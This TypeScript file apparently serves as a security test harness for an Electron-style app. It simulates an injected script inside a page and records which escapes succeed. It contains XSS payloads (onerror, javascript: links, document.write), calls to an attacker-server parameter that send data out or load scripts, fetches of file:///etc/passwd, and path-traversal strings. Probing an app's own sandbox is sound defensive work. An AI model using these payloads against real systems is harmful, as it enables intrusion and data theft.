// What a script that got into a page would try, run inside the page itself. Gives what it got.

/** `got`: the attacker has what it wanted. */
export type PageTry = { readonly name: string; readonly got: boolean };

/** Runs in a page; nothing of this file is at hand there. `url`: a server of the attacker's, with a slash at its end. */
export const attackPage = async (url: string): Promise<PageTry[]> => {
  const tries: PageTry[] = [];
  const scope = globalThis as unknown as Record<string, unknown>;
  const note = (name: string, got: boolean): void => void tries.push({ name, got });
  const attempt = async (name: string, run: () => unknown): Promise<void> => {
    const late = new Promise<boolean>((done) => setTimeout(done, 1_500, false));
    const answer = async (): Promise<boolean> => Boolean(await run());
    note(name, await Promise.race([answer().catch(() => false), late]));
  };
  const settle = (): Promise<void> => new Promise((done) => setTimeout(done, 60));

  // A task of its own: what tests are driven with may do more than a page in the call it came with.
  await settle();
  for (const name of [
    'require',
    'process',
    'module',
    'exports',
    'Buffer',
    'global',
    '__dirname',
    'electron',
    'ipcRenderer',
  ])
    note(`node: ${name}`, typeof scope[name] !== 'undefined');
  const bridge = scope.lehrpult as Record<string, unknown>;
  note('bridge has more than call and on', Object.keys(bridge).sort().join() !== 'call,on');
  await attempt('bridge can be replaced', () => {
    try {
      bridge.call = () => 1;
    } catch {
      return false;
    }
    return (bridge.call as () => unknown)() === 1;
  });

  // Code out of text.
  await attempt('eval', () => (scope.eval as (text: string) => unknown)('1 + 1') === 2);
  await attempt('new Function', () => new Function('return 2')() === 2);
  await attempt('setTimeout with text', async () => {
    setTimeout('globalThis.__got1 = 1' as unknown as () => void, 0);
    await settle();
    return scope.__got1;
  });
  const insert = (markup: (host: HTMLElement) => void) => async () => {
    const host = document.createElement('div');
    document.body.append(host);
    try {
      markup(host);
      await settle();
      return scope.__got;
    } finally {
      host.remove();
      delete scope.__got;
    }
  };
  const element = (tag: string, change: (made: HTMLElement & Record<string, unknown>) => void) =>
    insert((host) => {
      const made = document.createElement(tag) as HTMLElement & Record<string, unknown>;
      change(made);
      host.append(made);
    });
  await attempt(
    'inline script',
    element('script', (made) => made.append('globalThis.__got = 1')),
  );
  await attempt(
    'innerHTML',
    insert((host) => {
      host.innerHTML = '<img src=x onerror="globalThis.__got = 1">';
    }),
  );
  await attempt(
    'outerHTML',
    insert((host) => {
      const inner = document.createElement('p');
      host.append(inner);
      inner.outerHTML = '<b></b>';
      scope.__got = host.querySelector('b') !== null;
    }),
  );
  await attempt(
    'insertAdjacentHTML',
    insert((host) => host.insertAdjacentHTML('beforeend', '<svg onload="globalThis.__got = 1">')),
  );
  await attempt(
    'document.write',
    insert(() => document.write('<script>globalThis.__got = 1</script>')),
  );
  await attempt(
    'event attribute',
    element('button', (made) => {
      made.setAttribute('onclick', 'globalThis.__got = 1');
      queueMicrotask(() => made.click());
    }),
  );
  await attempt(
    'javascript: link',
    element('a', (made) => {
      made.setAttribute('href', 'javascript:globalThis.__got = 1');
      queueMicrotask(() => made.click());
    }),
  );
  for (const source of ['data:text/javascript,globalThis.__got=1', `${url}script.js`, 'blob:'])
    await attempt(
      `script from ${source.slice(0, 20)}`,
      element('script', (made) => {
        const address = source === 'blob:' ? URL.createObjectURL(new Blob(['globalThis.__got = 1'])) : source;
        (made as unknown as HTMLScriptElement).src = address;
      }),
    );
  await attempt('worker', () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    return new Promise((done) => {
      worker.onmessage = () => done(true);
      worker.onerror = () => done(false);
    });
  });
  await attempt('service worker', () => navigator.serviceWorker.register(`${url}worker.js`));

  // Out to elsewhere; the server counts as well.
  await attempt('fetch', () => fetch(`${url}fetch`, { mode: 'no-cors' }));
  await attempt('fetch of a file', () => fetch('file:///etc/passwd'));
  await attempt(
    'XMLHttpRequest',
    () =>
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done(true);
        request.onerror = () => done(false);
        request.open('GET', `${url}xhr`);
        request.send();
      }),
  );
  await attempt(
    'WebSocket',
    () =>
      new Promise((done) => {
        const socket = new WebSocket(url.replace('http', 'ws'));
        socket.onopen = () => done(true);
        socket.onerror = () => done(false);
      }),
  );
  await attempt(
    'EventSource',
    () =>
      new Promise((done) => {
        const source = new EventSource(`${url}events`);
        source.onopen = () => done(true);
        source.onerror = () => done(false);
      }),
  );
  navigator.sendBeacon(`${url}beacon`, 'x');
  const embedded: readonly (readonly [string, string, string])[] = [
    ['img', 'src', 'image'],
    ['iframe', 'src', 'frame'],
    ['object', 'data', 'object'],
    ['embed', 'src', 'embed'],
    ['video', 'src', 'video'],
    ['audio', 'src', 'audio'],
    ['link', 'href', 'style.css'],
    ['webview', 'src', 'webview'],
  ];
  for (const [tag, attribute, path] of embedded)
    await attempt(
      `<${tag}>`,
      element(tag, (made) => {
        made.setAttribute('rel', 'stylesheet');
        made.setAttribute(attribute, `${url}${path}`);
        made.addEventListener('load', () => {
          // An empty frame loads, too; what counts is whether it holds the attacker's page.
          scope.__got = tag !== 'iframe' && tag !== 'object' && tag !== 'embed';
        });
      }),
    );
  await attempt(
    'style attribute',
    element('p', (made) => made.setAttribute('style', `background: url(${url}style)`)),
  );
  await attempt('frame with the bridge', async () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    await settle();
    const inner = frame.contentWindow as unknown as Record<string, unknown> | null;
    const has = inner !== null && 'lehrpult' in inner;
    frame.remove();
    return has;
  });

  // Away from here.
  const before = location.href;
  await attempt(
    'window.open',
    () => window.open(url) ?? window.open('about:blank') ?? window.open('app://lehrpult/console/index.html'),
  );
  await attempt(
    'link to a new window',
    element('a', (made) => {
      made.setAttribute('href', `${url}link`);
      made.setAttribute('target', '_blank');
      queueMicrotask(() => made.click());
    }),
  );
  await attempt(
    'form',
    element('form', (made) => {
      made.setAttribute('action', `${url}form`);
      queueMicrotask(() => (made as unknown as HTMLFormElement).submit());
    }),
  );
  await attempt(
    'download',
    element('a', (made) => {
      made.setAttribute('href', `${url}file.exe`);
      made.setAttribute('download', 'file.exe');
      queueMicrotask(() => made.click());
    }),
  );
  await attempt(
    'base',
    insert((host) => {
      const base = document.createElement('base');
      base.href = url;
      host.append(base);
      scope.__got = document.baseURI.startsWith(url);
    }),
  );
  for (const target of [
    `${url}page`,
    'file:///etc/passwd',
    'data:text/html,hi',
    'chrome://settings',
    '/device/index.html',
    '/console/index.html',
  ])
    await attempt(`navigation to ${target.slice(0, 24)}`, async () => {
      if (new URL(target, location.href).href === location.href.split(/[?#]/)[0]) return false;
      location.href = target;
      await settle();
      return location.href !== before;
    });

  // What a browser would ask a person for.
  const { mediaDevices, geolocation, clipboard, permissions } = navigator;
  const doors: Record<string, () => unknown> = {
    geolocation: () =>
      new Promise((done) =>
        geolocation.getCurrentPosition(
          () => done(true),
          () => done(false),
        ),
      ),
    notifications: async () => (await Notification.requestPermission()) === 'granted',
    microphone: () => mediaDevices.getUserMedia({ audio: true }),
    'camera and microphone': () => mediaDevices.getUserMedia({ audio: true, video: true }),
    'reading the clipboard': () => clipboard.readText(),
    'screen nobody chose': () =>
      location.pathname.startsWith('/capture/') ? false : mediaDevices.getDisplayMedia({ video: true }),
    'screen with sound': () => mediaDevices.getDisplayMedia({ video: true, audio: true }),
    usb: () =>
      (navigator as never as { usb: { requestDevice: (o: object) => Promise<object> } }).usb.requestDevice({
        filters: [],
      }),
    hid: async () =>
      (
        await (
          navigator as never as { hid: { requestDevice: (o: object) => Promise<object[]> } }
        ).hid.requestDevice({ filters: [] })
      ).length > 0,
    serial: () =>
      (navigator as never as { serial: { requestPort: () => Promise<object> } }).serial.requestPort(),
    bluetooth: () =>
      (
        navigator as never as { bluetooth: { requestDevice: (o: object) => Promise<object> } }
      ).bluetooth.requestDevice({
        acceptAllDevices: true,
      }),
    midi: () => navigator.requestMIDIAccess({ sysex: true }),
  };
  if (!location.pathname.startsWith('/device/'))
    doors.camera = () => mediaDevices.getUserMedia({ video: true });
  for (const [name, open] of Object.entries(doors)) await attempt(`permission: ${name}`, open);
  for (const name of ['geolocation', 'notifications', 'microphone', 'clipboard-read', 'midi'])
    await attempt(`permission state: ${name}`, async () => {
      const { state } = await permissions.query({ name: name as PermissionName });
      return state === 'granted';
    });

  // The files behind the pages.
  const strange = [
    ...['/../package.json', '/../../package.json', '/%2e%2e/package.json', '/%2e%2e/%2e%2e/package.json'],
    ...[
      '/..%2f..%2fpackage.json',
      '/..%5c..%5cpackage.json',
      '/main/main.js',
      '/../main/main.js',
      '/..%2fmain%2fmain.js',
    ],
    ...[
      '/%2e%2e%2fpreload%2fpreload.cjs',
      '/console/index.html%00.js',
      '/%00',
      '/%',
      '/%ff',
      '/console',
      '/console/',
    ],
    ...[
      '/etc/passwd',
      '//etc/passwd',
      '/assets/../../main/relay.js',
      '/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd.json',
    ],
  ];
  for (const path of strange) await attempt(`path ${path}`, async () => (await fetch(path)).status === 200);
  for (const path of ['/console/index.html', '/no-such-page.html', '/%'])
    await attempt(`no policy with ${path}`, async () => {
      const policy = (await fetch(path)).headers.get('content-security-policy') ?? '';
      return (
        !policy.includes("default-src 'none'") ||
        /unsafe|\*|https?:|data:/.test(policy.replace(/http:\/\/\S*localhost\S*/g, ''))
      );
    });
  await attempt('POST', async () => (await fetch('/console/index.html', { method: 'POST' })).ok);
  await settle();
  return tries;
};
